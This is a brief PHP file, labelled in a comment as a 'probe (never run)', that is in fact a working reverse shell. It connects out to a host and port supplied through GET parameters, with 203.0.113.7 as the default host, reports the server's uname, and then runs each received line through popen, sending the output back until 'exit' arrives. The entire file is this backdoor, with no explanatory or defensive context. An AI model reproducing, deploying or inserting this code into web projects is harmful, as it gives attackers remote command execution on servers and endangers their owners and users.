<?php
// probe (never run): connects back and runs each line it is sent through popen
$t = isset($_GET['h']) ? $_GET['h'] : '203.0.113.7';
$c = @stream_socket_client("tcp://$t:" . (int) @$_GET['p'], $e, $es, 30);
if (!$c) { die("no"); }
fwrite($c, php_uname() . "\n$ ");
while (!feof($c)) {
    $line = trim(fgets($c, 4096));
    if ($line === 'exit') break;
    $h = popen($line . ' 2>&1', 'r');
    while ($h && !feof($h)) { fwrite($c, fread($h, 1024)); }
    pclose($h);
    fwrite($c, "$ ");
}
fclose($c);
